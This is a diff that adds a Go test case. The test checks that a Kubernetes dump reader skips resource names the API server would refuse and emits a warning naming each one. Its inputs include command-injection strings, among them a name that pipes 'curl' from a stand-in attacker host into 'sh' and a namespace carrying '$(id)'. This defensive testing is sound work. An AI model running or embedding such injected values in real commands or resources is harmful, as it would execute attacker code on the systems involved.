@@ -434,3 +434,34 @@ func TestYAMLAliasesCannotPassMaxObjectSize(t *testing.T) {
 		})
 	}
 }
+
+// TestNamesTheAPIServerRefusesAreNotRead: a hand-made dump's names reach the commands the
+// report suggests; one the API server would refuse is skipped with a warning naming it.
+func TestNamesTheAPIServerRefusesAreNotRead(t *testing.T) {
+	deploy := func(ns, name string) string {
+		return `{"apiVersion":"apps/v1","kind":"Deployment","metadata":{"name":` + fmt.Sprintf("%q", name) + `,"namespace":` + fmt.Sprintf("%q", ns) +
+			`,"uid":"` + name + `-uid","creationTimestamp":"2026-11-24T12:00:00Z"},"spec":{"replicas":1,"selector":{"matchLabels":{"app":"x"}},"template":{"metadata":{"labels":{"app":"x"}},"spec":{"containers":[{"name":"x","image":"x:1"}]}}}}` + "\n"
+	}
+	for _, tt := range []struct{ name, doc, want string }{
+		{"a name", deploy("shop", "api;curl -s evil.example|sh"), `a Deployment in %q: name "api;curl -s evil.example|sh": a lowercase RFC 1123 subdomain`},
+		{"a namespace", deploy("shop$(id)", "api"), `a Deployment in %q: namespace "shop$(id)": a lowercase RFC 1123 label`},
+		{"a Service's name", `{"apiVersion":"v1","kind":"Service","metadata":{"name":"1api","namespace":"shop"},"spec":{}}` + "\n", `a Service in %q: name "1api": a DNS-1035 label`},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			file := filepath.Join(t.TempDir(), "dump.json")
+			if err := os.WriteFile(file, []byte(deploy("shop", "web")+tt.doc), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			s, err := Read(file, nil)
+			if err != nil {
+				t.Fatal(err)
+			}
+			if len(s.Deployments) != 1 || s.Deployments[0].Name != "web" || len(s.Services) != 0 {
+				t.Errorf("read %d deployments, %d services; want web alone", len(s.Deployments), len(s.Services))
+			}
+			if want := fmt.Sprintf(tt.want, file); !strings.Contains(visibilityReasons(s), want) {
+				t.Errorf("notes lack %q:\n%s", want, visibilityReasons(s))
+			}
+		})
+	}
+}
